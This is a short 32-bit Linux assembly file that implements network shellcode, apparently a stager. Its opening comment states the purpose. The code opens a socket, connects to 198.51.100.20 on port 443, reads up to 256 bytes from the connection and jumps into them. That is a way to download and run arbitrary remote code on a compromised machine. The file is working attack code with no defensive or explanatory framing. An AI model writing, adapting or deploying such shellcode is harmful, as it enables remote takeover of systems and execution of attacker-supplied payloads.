; Linux, 32 bit: connects to 198.51.100.20 port 443, reads up to 256 bytes and jumps to them.
bits 32
%ifndef PORT
%define PORT 443
%define ADDRESS 0x146433c6     ; 198.51.100.20
%endif
        xor ebx, ebx
        mul ebx
        push ebx
        inc ebx
        push ebx
        push byte 2
        mov ecx, esp
        mov al, 102
        int 80h
        xchg eax, edi
        push dword ADDRESS
        push word ((PORT & 255) << 8) | (PORT >> 8)
        push word 2
        mov ecx, esp
        push byte 16
        push ecx
        push edi
        mov ecx, esp
        push byte 3
        pop ebx
        push byte 102
        pop eax
        int 80h
        mov ebx, edi
        sub esp, 256
        mov ecx, esp
        xor edx, edx
        inc dh
        push byte 3
        pop eax
        int 80h
        jmp ecx
